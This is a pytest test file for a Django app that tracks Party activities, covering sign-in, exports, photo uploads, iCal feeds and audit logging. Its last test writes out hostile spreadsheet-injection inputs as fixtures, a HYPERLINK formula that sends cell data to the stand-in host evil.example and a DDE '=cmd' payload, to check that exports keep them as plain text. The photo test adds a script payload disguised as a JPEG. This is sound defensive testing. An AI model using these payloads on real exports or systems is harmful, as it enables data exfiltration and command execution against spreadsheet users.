from __future__ import annotations

import datetime as dt
import io
from pathlib import Path
from typing import Any

import pytest
import time_machine
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook
from PIL import Image

from activities import services, signin
from activities.models import Activity, ActivityPhoto, Attendance, CalendarFeed

from .conftest import at, make_activity


@pytest.fixture(autouse=True)
def _private_media(settings: Any, tmp_path: Path) -> None:
    settings.PRIVATE_MEDIA_ROOT = tmp_path / "private"


def test_secretary_records_a_themed_party_day_with_a_pair(world: Any, client_for: Any, organs: Any,
                                                          pair: Any) -> None:
    client = client_for("staff_fz")
    page = client.get(f"/activities/add/?pair={pair.pk}")
    assert page.status_code == 200
    assert page.context["form"].initial["lead"] == organs["fz-o1"].pk
    starts = timezone.localtime(at(days=-1)).replace(second=0, microsecond=0)
    response = client.post("/activities/add/", {
        "kind": "party_day", "theme": "联学共建主题党日", "starts_at": f"{starts:%Y-%m-%dT%H:%M}",
        "ends_at": f"{starts + dt.timedelta(hours=2):%Y-%m-%dT%H:%M}", "venue": "高新区党群服务中心",
        "lead": organs["fz-o1"].pk, "pairs": [pair.pk], "allow_guests": "on"})
    assert response.status_code == 302, response.context["form"].errors
    activity = Activity.objects.get(theme="联学共建主题党日")
    response = client.post(f"/activities/{activity.pk}/do/record/", {"minutes": "共同学习《条例》", "outcomes": ""})
    assert response.status_code == 302
    activity.refresh_from_db()
    assert activity.status == "recorded"
    detail = client.get(activity.get_absolute_url()).content.decode()
    assert "共同学习《条例》" in detail and organs["fz-o1"].name in detail and world.orgs["fz-e1"].name in detail
    # The pair's page counts it.
    pair_page = client.get(pair.get_absolute_url())
    assert pair_page.context["progress"].done_to_date == 1
    assert "联学共建主题党日" in pair_page.content.decode()


def test_form_errors_are_shown_and_nothing_is_saved(world: Any, client_for: Any) -> None:
    client = client_for("secretary_b1")
    response = client.post("/activities/add/", {"kind": "party_day", "theme": "", "starts_at": "2026-01-01T10:00",
                                                "ends_at": "2026-01-01T09:00", "lead": world.orgs["jj-e1"].pk})
    assert response.status_code == 200
    errors = response.context["form"].errors
    assert "theme" in errors and "lead" in errors
    assert not Activity.objects.exists()


def test_pages_are_scoped(world: Any, client_for: Any) -> None:
    activity = make_activity(world.orgs["fz-e1"])
    assert client_for("staff_fz").get(activity.get_absolute_url()).status_code == 200
    assert client_for("member").get(activity.get_absolute_url()).status_code == 200
    assert client_for("staff_jj").get(activity.get_absolute_url()).status_code == 404
    assert client_for("member").get(f"/activities/{activity.pk}/edit/").status_code == 403
    assert client_for("member").get(f"/activities/{activity.pk}/qr/").status_code == 403
    listing = client_for("staff_jj").get("/activities/").content.decode()
    assert activity.theme not in listing
    assert activity.theme in client_for("staff_fz").get("/activities/?q=党纪").content.decode()


def test_activity_list_query_count_is_flat(world: Any, client_for: Any) -> None:
    client = client_for("staff_fz")
    make_activity(world.orgs["fz-e1"], co_hosts=[world.orgs["fz-e2"]])
    client.get("/activities/")  # warm: roles are cached between requests (core.authz_cache)
    with CaptureQueriesContext(connection) as few:
        client.get("/activities/")
    for _ in range(6):
        make_activity(world.orgs["fz-e1"], co_hosts=[world.orgs["fz-e2"], world.orgs["fz-b2"]])
    client.get("/activities/")
    with CaptureQueriesContext(connection) as many:
        client.get("/activities/")
    assert len(many) == len(few)


def test_export_of_activities_and_attendance(world: Any, client_for: Any) -> None:
    activity = make_activity(world.orgs["fz-e1"], starts=at(hours=-1))
    services.sign_in(activity=activity, person=world.people["e1-a"])
    services.sign_in_guest(activity=activity, name="王芳", unit="泉州市图书馆")
    client = client_for("staff_fz")
    book = load_workbook(io.BytesIO(client.post("/activities/", {"export": "xlsx"}).content))
    rows = list(book.active.iter_rows(values_only=True))
    assert len(rows) == 2 and activity.theme in rows[1]
    book = load_workbook(io.BytesIO(client.get(f"/activities/{activity.pk}/attendance.xlsx").content))
    names = [r[0] for r in book.active.iter_rows(min_row=2, values_only=True)]
    assert sorted(names) == sorted(["王芳", world.people["e1-a"].name])
    assert client_for("staff_jj").get(f"/activities/{activity.pk}/attendance.xlsx").status_code == 404


def test_qr_code_and_phone_sign_in(world: Any, client_for: Any) -> None:
    activity = make_activity(world.orgs["fz-e1"], starts=at(hours=-1))
    svg = client_for("staff_fz").get(f"/activities/{activity.pk}/qr.svg")
    assert svg.status_code == 200 and svg["Content-Type"] == "image/svg+xml" and b"<svg" in svg.content
    url = f"/activities/signin/{signin.make_token(activity)}/"
    guest = Client()  # the page opens without logging in
    assert guest.get(url).status_code == 200
    assert guest.post(url, {"as": "guest", "name": "", "unit": ""}).status_code == 400
    assert guest.post(url, {"as": "guest", "name": "王芳", "unit": "图书馆"}).status_code == 200
    again = guest.post(url, {"as": "guest", "name": "王芳", "unit": "图书馆"})
    assert again.status_code == 400 and 'data-testid="signin-error"' in again.content.decode()
    # A member must log in first; then one tap.
    login_redirect = guest.post(url)
    assert login_redirect.status_code == 302 and "/accounts/login/" in login_redirect["Location"]
    member = client_for("member")
    assert "signin-me" in member.get(url).content.decode()
    assert member.post(url).status_code == 200
    assert Attendance.objects.filter(activity=activity, person=world.people["e1-a"]).count() == 1
    assert Client().get("/activities/signin/forged-token/").status_code == 400


def test_photo_upload_and_permission_checked_serving(world: Any, client_for: Any) -> None:
    activity = make_activity(world.orgs["fz-e1"])
    buf = io.BytesIO()
    Image.new("RGB", (640, 480), "blue").save(buf, format="PNG")
    buf.seek(0)
    buf.name = "photo.png"
    client = client_for("staff_fz")
    client.post(f"/activities/{activity.pk}/do/photo/", {"photo": buf, "caption": "合影"})
    photo = ActivityPhoto.objects.get()
    served = client.get(photo.get_absolute_url())
    assert served.status_code == 200 and served["Content-Type"] == "image/jpeg"
    assert client_for("staff_jj").get(photo.get_absolute_url()).status_code == 404
    bad = io.BytesIO(b"<html><script>alert(1)</script>")
    bad.name = "holiday.jpg"
    response = client.post(f"/activities/{activity.pk}/do/photo/", {"photo": bad}, follow=True)
    assert ActivityPhoto.objects.count() == 1
    assert any("JPEG" in str(m) for m in response.context["messages"])


def test_ledger_series_calendar_pages(world: Any, client_for: Any) -> None:
    activity = make_activity(world.orgs["fz-e1"], kind="committee_meeting")
    services.activity_record(actor=None, activity=activity, minutes="x")
    client = client_for("staff_fz")
    matrix = client.get("/activities/ledger/")
    assert matrix.status_code == 200 and world.orgs["fz-e1"].name in matrix.content.decode()
    assert world.orgs["jj-e1"].name not in matrix.content.decode()
    own = client.get(f"/activities/ledger/{world.orgs['fz-e1'].pk}/")
    assert own.status_code == 200 and activity.theme in own.content.decode()
    assert client_for("staff_jj").get(f"/activities/ledger/{world.orgs['fz-e1'].pk}/").status_code == 404
    month = timezone.localtime(activity.starts_at)
    cal = client.get(f"/activities/calendar/?month={month:%Y-%m}")
    assert activity.theme in cal.content.decode()
    week = client.get(f"/activities/calendar/week/?week={month.date().isoformat()}")
    assert activity.theme in week.content.decode()
    assert client.get("/activities/rules/").status_code == 200
    assert client.get("/activities/rules/add/").status_code == 403
    assert client_for("admin").get("/activities/rules/add/").status_code == 200


def test_ical_feed_is_secret_scoped_and_revocable(world: Any, client_for: Any) -> None:
    activity = make_activity(world.orgs["fz-e1"], starts=at(days=3))
    client = client_for("staff_fz")
    client.post("/activities/calendar/links/", {"organization": world.orgs["fz-e1"].pk})
    feed = CalendarFeed.objects.get(user=world.users["staff_fz"])
    body = Client().get(feed.get_absolute_url())
    assert body.status_code == 200 and body["Content-Type"].startswith("text/calendar")
    text = body.content.decode()
    assert "BEGIN:VEVENT" in text and f"activity-{activity.pk}@" in text
    # An organization the user cannot see cannot get a feed.
    client.post("/activities/calendar/links/", {"organization": world.orgs["jj-e1"].pk})
    assert CalendarFeed.objects.count() == 1
    client.post("/activities/calendar/links/", {"revoke": feed.pk})
    assert Client().get(feed.get_absolute_url()).status_code == 404
    assert Client().get("/activities/feed/not-a-token.ics").status_code == 404


def test_reading_a_feed_is_audited_once_an_hour(world: Any) -> None:
    from activities.services import feed_create
    from core.models import AuditEvent

    feed = feed_create(actor=world.users["staff_fz"])
    start = timezone.now().replace(microsecond=0)

    def uses() -> list[Any]:
        return list(AuditEvent.objects.filter(object_type="activities.calendarfeed", object_id=str(feed.pk), action="update",
                                              changes__has_key="last_used_at").order_by("id"))

    with time_machine.travel(start, tick=False):
        assert Client().get(feed.get_absolute_url()).status_code == 200
        assert Client().get(feed.get_absolute_url()).status_code == 200  # a poll a minute later: nothing new
    [first] = uses()
    assert (first.actor, first.changes["last_used_at"][0]) == (world.users["staff_fz"], None)
    with time_machine.travel(start + dt.timedelta(minutes=61), tick=False):
        assert Client().get(feed.get_absolute_url()).status_code == 200
    assert len(uses()) == 2
    feed.refresh_from_db()
    assert feed.last_used_at == start + dt.timedelta(minutes=61)


def test_alliance_page_counts_a_cohosted_activity_once(world: Any, client_for: Any, alliances: Any) -> None:
    activity = make_activity(world.orgs["fz-e1"], co_hosts=[world.orgs["fz-b1"], world.orgs["fz-root"]],
                             alliance=alliances["cbd"], starts=at(hours=-3))
    services.activity_record(actor=None, activity=activity, minutes="联学")
    page = client_for("cbd_admin").get(alliances["cbd"].get_absolute_url())
    stats = page.context["activity_stats"]
    assert (stats["held"], stats["hosts"]) == (1, 3)
    assert 'data-testid="alliance-activities-held">1<' in page.content.decode()


def test_no_audit_row_holds_a_feed_token(world: Any, client_for: Any) -> None:
    """The token is the feed's only credential (issue 24): the audit trail, readable by auditors, must not show it."""
    from core.models import AuditEvent

    client = client_for("staff_fz")
    client.post("/activities/calendar/links/", {"organization": world.orgs["fz-e1"].pk})
    feed = CalendarFeed.objects.get(user=world.users["staff_fz"])
    assert Client().get(feed.get_absolute_url()).status_code == 200  # audited use
    client.post("/activities/calendar/links/", {"revoke": feed.pk})
    events = AuditEvent.objects.filter(object_type="activities.calendarfeed")
    assert events.count() >= 3
    for event in events:
        assert feed.token not in f"{event.changes} {event.object_repr} {event.object_id}"


def test_exported_text_is_never_a_formula(world: Any, client_for: Any) -> None:
    """A theme or guest name saved as a formula comes out of the exports as the text typed (issue 24 §3)."""
    hostile = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "=cmd|' /C calc'!A0", "+1+1", "@SUM(A1)"]
    activity = make_activity(world.orgs["fz-e1"], starts=at(hours=-1), theme=hostile[0])
    for name in hostile[1:]:
        services.sign_in_guest(activity=activity, name=name, unit="-2+3")
    client = client_for("staff_fz")
    for response in (client.post("/activities/", {"export": "xlsx"}),
                     client.get(f"/activities/{activity.pk}/attendance.xlsx")):
        cells = [cell for row in load_workbook(io.BytesIO(response.content)).active.iter_rows() for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        values = {cell.value for cell in cells}
        assert hostile[0] in values or set(hostile[1:]) <= values
